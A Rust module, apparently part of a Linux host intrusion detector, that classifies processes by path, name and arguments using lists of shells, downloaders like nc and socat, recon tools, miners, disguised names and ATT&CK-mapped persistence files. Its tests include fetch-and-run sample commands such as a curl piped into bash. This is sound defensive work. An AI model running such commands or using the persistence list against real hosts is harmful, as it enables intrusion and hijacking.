@@ -1,0 +1,547 @@
+//! What a program is, judged from its path, name and arguments. Pure
+//! functions; the detectors combine them with behaviour (tree, sockets,
+//! provenance).
+
+/// Last path component.
+pub fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// Directory part ("" if none).
+pub fn dirname(path: &str) -> &str {
+    match path.rfind('/') {
+        Some(0) => "/",
+        Some(i) => &path[..i],
+        None => "",
+    }
+}
+
+const SHELLS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "csh", "tcsh", "fish", "busybox", "rbash",
+];
+
+/// A command shell.
+pub fn is_shell(exe: &str) -> bool {
+    SHELLS.contains(&basename(exe))
+}
+
+const DOWNLOADERS: &[&str] = &[
+    "curl", "wget", "fetch", "aria2c", "tftp", "ftp", "lftp", "scp", "sftp", "rsync", "nc", "ncat",
+    "netcat", "socat", "axel", "httpie", "http",
+];
+
+/// A program whose job is moving files over the network.
+pub fn is_downloader(exe: &str) -> bool {
+    DOWNLOADERS.contains(&basename(exe))
+}
+
+/// A scripting language interpreter (python3.11 counts as python).
+pub fn is_interpreter(exe: &str) -> bool {
+    let b = basename(exe);
+    let stem = b.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    matches!(
+        stem,
+        "python"
+            | "perl"
+            | "ruby"
+            | "php"
+            | "node"
+            | "nodejs"
+            | "lua"
+            | "tclsh"
+            | "awk"
+            | "gawk"
+            | "mawk"
+            | "nawk"
+            | "irb"
+            | "pwsh"
+            | "osascript"
+            | "java"
+            | "jjs"
+            | "deno"
+            | "bun"
+    )
+}
+
+/// An interpreter told to run a one-liner from its command line.
+pub fn is_interpreter_one_liner(exe: &str, argv: &[String]) -> bool {
+    if !is_interpreter(exe) {
+        return false;
+    }
+    argv.iter().skip(1).any(|a| {
+        matches!(
+            a.as_str(),
+            "-c" | "-e" | "-r" | "--eval" | "-E" | "-p" | "--print"
+        )
+    })
+}
+
+const RECON: &[&str] = &[
+    "id",
+    "whoami",
+    "uname",
+    "hostname",
+    "ifconfig",
+    "ip",
+    "netstat",
+    "ss",
+    "ps",
+    "w",
+    "who",
+    "last",
+    "lsof",
+    "nmap",
+    "masscan",
+    "getent",
+    "groups",
+    "arp",
+    "route",
+    "env",
+    "printenv",
+    "lscpu",
+    "lsb_release",
+    "dmidecode",
+];
+
+/// A host/user reconnaissance tool.
+pub fn is_recon(exe: &str) -> bool {
+    RECON.contains(&basename(exe))
+}
+
+const SYSTEM_DIRS: &[&str] = &[
+    "/bin",
+    "/sbin",
+    "/usr/bin",
+    "/usr/sbin",
+    "/usr/local/bin",
+    "/usr/local/sbin",
+    "/usr/lib",
+    "/usr/lib64",
+    "/usr/libexec",
+    "/lib",
+    "/lib64",
+    "/usr/local/lib",
+    "/opt",
+    "/snap",
+    "/usr/share",
+    "/nix/store",
+];
+
+/// An executable installed in a system location.
+pub fn in_system_dir(exe: &str) -> bool {
+    SYSTEM_DIRS
+        .iter()
+        .any(|d| exe.starts_with(d) && exe.as_bytes().get(d.len()) == Some(&b'/'))
+}
+
+/// Names of system daemons, kernel threads and everyday tools that malware
+/// borrows to blend in.
+const BORROWED_NAMES: &[&str] = &[
+    "crond",
+    "cron",
+    "atd",
+    "sshd",
+    "systemd",
+    "systemd-journald",
+    "systemd-logind",
+    "init",
+    "dbus-daemon",
+    "rsyslogd",
+    "syslogd",
+    "udevd",
+    "systemd-udevd",
+    "kthreadd",
+    "kworker",
+    "ksoftirqd",
+    "kswapd0",
+    "migration",
+    "watchdogd",
+    "kdevtmpfsi",
+    "agetty",
+    "polkitd",
+    "networkd",
+    "NetworkManager",
+    "containerd",
+    "dockerd",
+    "kubelet",
+    "vim",
+    "vi",
+    "nano",
+    "emacs",
+    "top",
+    "htop",
+    "less",
+    "more",
+    "ls",
+    "ps",
+    "netstat",
+    "ssh",
+    "sudo",
+    "su",
+    "apache2",
+    "httpd",
+    "nginx",
+    "mysqld",
+    "postgres",
+    "php-fpm",
+];
+
+/// A name that belongs to a system daemon, kernel thread or common tool.
+pub fn is_borrowed_name(name: &str) -> bool {
+    let n = name.trim();
+    let n = n.split('/').next().unwrap_or(n); // "kworker/0:1"
+    BORROWED_NAMES.contains(&n)
+}
+
+/// argv[0] styled as a kernel thread: "[kworker/0:1]".
+pub fn looks_like_kernel_thread(argv0: &str) -> bool {
+    argv0.len() > 2 && argv0.starts_with('[') && argv0.ends_with(']')
+}
+
+/// A file name with trailing/leading whitespace or a deceptive double
+/// extension ("invoice.pdf.sh", "report.txt .exe").
+pub fn deceptive_name(name: &str) -> bool {
+    if name.is_empty() {
+        return false;
+    }
+    if name != name.trim() {
+        return true;
+    }
+    let parts: Vec<&str> = name.split('.').collect();
+    if parts.len() >= 3 {
+        let doc = parts[parts.len() - 2].to_ascii_lowercase();
+        let exe = parts[parts.len() - 1].to_ascii_lowercase();
+        const DOCS: &[&str] = &[
+            "pdf", "doc", "docx", "txt", "jpg", "jpeg", "png", "gif", "xls", "xlsx", "csv", "zip",
+            "mp4", "mp3", "log",
+        ];
+        const EXES: &[&str] = &["sh", "bin", "elf", "exe", "py", "pl", "run", "x"];
+        return DOCS.contains(&doc.as_str()) && EXES.contains(&exe.as_str());
+    }
+    false
+}
+
+/// Temporary and world-writable directories programs should not run from.
+pub fn in_temp_dir(path: &str) -> bool {
+    ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"]
+        .iter()
+        .any(|d| path.starts_with(d))
+}
+
+/// Hidden directories that are normal homes of tooling; executables there
+/// are not "hidden execution".
+const KNOWN_DOT_DIRS: &[&str] = &[
+    ".cargo",
+    ".rustup",
+    ".local",
+    ".nvm",
+    ".pyenv",
+    ".rbenv",
+    ".sdkman",
+    ".npm",
+    ".vscode-server",
+    ".cursor-server",
+    ".deno",
+    ".bun",
+    ".gradle",
+    ".m2",
+    ".git",
+    ".venv",
+    ".tox",
+    ".nix-profile",
+    ".asdf",
+    ".volta",
+    ".juliaup",
+    ".ghcup",
+    ".dotnet",
+    ".go",
+    ".conda",
+];
+
+/// The first hidden directory component of `path` that is not a known
+/// tooling home, if any.
+pub fn hidden_dir_component(path: &str) -> Option<&str> {
+    let dir = dirname(path);
+    dir.split('/')
+        .find(|c| c.starts_with('.') && *c != "." && *c != ".." && !KNOWN_DOT_DIRS.contains(c))
+}
+
+const MINERS: &[&str] = &[
+    "xmrig",
+    "xmr-stak",
+    "xmr-stak-cpu",
+    "minerd",
+    "cpuminer",
+    "cpuminer-multi",
+    "ccminer",
+    "nbminer",
+    "t-rex",
+    "lolminer",
+    "phoenixminer",
+    "ethminer",
+    "nanominer",
+    "kdevtmpfsi",
+    "kinsing",
+    "bminer",
+    "gminer",
+    "teamredminer",
+    "srbminer",
+    "xmrminer",
+];
+
+/// Known miner program names.
+pub fn is_miner_name(name: &str) -> bool {
+    MINERS.contains(&name.to_ascii_lowercase().as_str())
+}
+
+/// Command-line markers of mining (pool protocols, miner options).
+pub fn miner_argument(argv: &[String]) -> Option<&str> {
+    const MARKERS: &[&str] = &[
+        "stratum+tcp://",
+        "stratum+ssl://",
+        "stratum+tls://",
+        "stratum2+tcp://",
+        "--donate-level",
+        "--randomx",
+        "--coin=",
+        "cryptonight",
+        "--cpu-max-threads-hint",
+        "nicehash",
+    ];
+    argv.iter()
+        .skip(1)
+        .find(|a| MARKERS.iter().any(|m| a.to_ascii_lowercase().contains(m)))
+        .map(|s| s.as_str())
+}
+
+/// Ports mining pools listen on.
+pub fn is_pool_port(port: u16) -> bool {
+    matches!(
+        port,
+        3333 | 3334
+            | 3335
+            | 4444
+            | 5555
+            | 5556
+            | 6666
+            | 7777
+            | 8888
+            | 9999
+            | 14433
+            | 14444
+            | 45560
+            | 45700
+    )
+}
+
+/// A persistence location, with its ATT&CK technique and a label.
+pub fn persistence_target(path: &str) -> Option<(&'static str, &'static str)> {
+    let b = basename(path);
+    let p = path;
+    if p.starts_with("/etc/cron")
+        || p.starts_with("/var/spool/cron/")
+        || p == "/etc/crontab"
+        || p.starts_with("/etc/anacrontab")
+    {
+        return Some(("T1053.003", "cron job"));
+    }
+    if p.starts_with("/etc/systemd/system/")
+        || p.starts_with("/lib/systemd/system/")
+        || p.starts_with("/usr/lib/systemd/system/")
+        || p.starts_with("/run/systemd/system/")
+        || p.contains("/.config/systemd/user/")
+    {
+        return Some(("T1543.002", "systemd unit"));
+    }
+    if p.starts_with("/etc/init.d/") || p == "/etc/rc.local" || p.starts_with("/etc/rc") {
+        return Some(("T1037.004", "init script"));
+    }
+    if matches!(
+        b,
+        ".bashrc"
+            | ".bash_profile"
+            | ".bash_login"
+            | ".profile"
+            | ".zshrc"
+            | ".zprofile"
+            | ".zshenv"
+            | ".bash_logout"
+    ) || p == "/etc/profile"
+        || p.starts_with("/etc/profile.d/")
+        || p == "/etc/bash.bashrc"
+        || p == "/etc/zsh/zshrc"
+        || p == "/etc/environment"
+    {
+        return Some(("T1546.004", "shell start-up file"));
+    }
+    if matches!(b, "authorized_keys" | "authorized_keys2") {
+        return Some(("T1098.004", "SSH authorized keys"));
+    }
+    if p == "/etc/sudoers" || p.starts_with("/etc/sudoers.d/") {
+        return Some(("T1548.003", "sudoers"));
+    }
+    if p == "/etc/ld.so.preload" {
+        return Some(("T1574.006", "ld.so.preload"));
+    }
+    if p == "/etc/passwd" || p == "/etc/shadow" || p == "/etc/group" {
+        return Some(("T1136.001", "account database"));
+    }
+    if p.contains("/.config/autostart/") || p.starts_with("/etc/xdg/autostart/") {
+        return Some(("T1547.013", "autostart entry"));
+    }
+    if p.starts_with("/etc/update-motd.d/") {
+        return Some(("T1037", "login script"));
+    }
+    None
+}
+
+/// `sh -c "…"`: the command string, if this is a shell running one.
+pub fn shell_command(exe: &str, argv: &[String]) -> Option<String> {
+    if !is_shell(exe) {
+        return None;
+    }
+    let i = argv.iter().position(|a| {
+        a.starts_with('-') && !a.starts_with("--") && a.contains('c') && a.len() <= 4
+    })?;
+    argv.get(i + 1).cloned()
+}
+
+/// A command string that decodes something and pipes it into a shell, or
+/// downloads something and pipes it into a shell.
+pub fn pipes_into_shell(cmd: &str) -> Option<&'static str> {
+    let c = cmd.to_ascii_lowercase();
+    let to_shell = [
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "| /bin/sh",
+        "| /bin/bash",
+        "| dash",
+        "|dash",
+    ]
+    .iter()
+    .any(|p| c.contains(p));
+    if !to_shell {
+        return None;
+    }
+    if c.contains("base64 -d")
+        || c.contains("base64 --decode")
+        || c.contains("xxd -r")
+        || c.contains("openssl enc -d")
+        || c.contains("openssl base64 -d")
+    {
+        return Some("decode");
+    }
+    if c.contains("curl ") || c.contains("wget ") {
+        return Some("download");
+    }
+    None
+}
+
+/// A decoder invocation (`base64 -d`, `xxd -r`, `openssl enc -d`).
+pub fn is_decoder(exe: &str, argv: &[String]) -> bool {
+    let b = basename(exe);
+    let has = |f: &str| argv.iter().skip(1).any(|a| a == f);
+    match b {
+        "base64" | "base32" | "basenc" => has("-d") || has("--decode") || has("-D"),
+        "xxd" => has("-r"),
+        "openssl" => has("-d") || has("base64"),
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn v(a: &[&str]) -> Vec<String> {
+        a.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn names() {
+        assert!(is_shell("/usr/bin/dash"));
+        assert!(!is_shell("/usr/bin/dashboard"));
+        assert!(is_interpreter("/usr/bin/python3.11"));
+        assert!(is_interpreter(
+            "/root/.pyenv/versions/3.11.7/bin/python3.11"
+        ));
+        assert!(!is_interpreter("/usr/bin/pythonista-helper"));
+        assert!(is_interpreter_one_liner(
+            "/usr/bin/python3",
+            &v(&["python3", "-c", "x"])
+        ));
+        assert!(!is_interpreter_one_liner(
+            "/usr/bin/python3",
+            &v(&["python3", "app.py"])
+        ));
+        assert!(in_system_dir("/usr/bin/vim"));
+        assert!(!in_system_dir("/usr/binx/vim"));
+        assert!(!in_system_dir("/home/u/.cache/.sys/vim"));
+        assert!(is_borrowed_name("kworker/0:1"));
+        assert!(looks_like_kernel_thread("[kworker/0:1]"));
+        assert!(deceptive_name("invoice.pdf.sh"));
+        assert!(deceptive_name("update "));
+        assert!(!deceptive_name("libfoo.so.1"));
+        assert!(!deceptive_name("archive.tar.gz"));
+    }
+
+    #[test]
+    fn hidden_dirs() {
+        assert_eq!(
+            hidden_dir_component("/home/u/.cache/.sys/vim"),
+            Some(".cache")
+        );
+        assert_eq!(
+            hidden_dir_component("/var/tmp/.scn-1/updater"),
+            Some(".scn-1")
+        );
+        assert_eq!(hidden_dir_component("/root/.cargo/bin/cargo"), None);
+        assert_eq!(
+            hidden_dir_component("/usr/bin/.hidden"),
+            None,
+            "a hidden file, not a dir"
+        );
+    }
+
+    #[test]
+    fn persistence() {
+        assert_eq!(
+            persistence_target("/etc/cron.d/job").unwrap().0,
+            "T1053.003"
+        );
+        assert_eq!(persistence_target("/root/.bashrc").unwrap().0, "T1546.004");
+        assert_eq!(
+            persistence_target("/root/.ssh/authorized_keys").unwrap().0,
+            "T1098.004"
+        );
+        assert_eq!(
+            persistence_target("/etc/ld.so.preload").unwrap().0,
+            "T1574.006"
+        );
+        assert!(persistence_target("/etc/hostname").is_none());
+        assert!(persistence_target("/tmp/x.bashrc.bak").is_none());
+    }
+
+    #[test]
+    fn shell_commands() {
+        let argv = v(&["/bin/sh", "-c", "echo aWQ= | base64 -d | sh"]);
+        let c = shell_command("/usr/bin/dash", &argv).unwrap();
+        assert_eq!(pipes_into_shell(&c), Some("decode"));
+        assert_eq!(
+            pipes_into_shell("curl -s http://x/i.sh | bash"),
+            Some("download")
+        );
+        assert_eq!(pipes_into_shell("git log | less"), None);
+        assert!(is_decoder("/usr/bin/base64", &v(&["base64", "-d"])));
+        assert!(!is_decoder("/usr/bin/base64", &v(&["base64", "file"])));
+    }
+
+    #[test]
+    fn miners() {
+        assert!(is_miner_name("XMRig"));
+        assert!(miner_argument(&v(&["x", "-o", "stratum+tcp://pool:3333"])).is_some());
+        assert!(miner_argument(&v(&["curl", "https://example.org"])).is_none());
+    }
+}
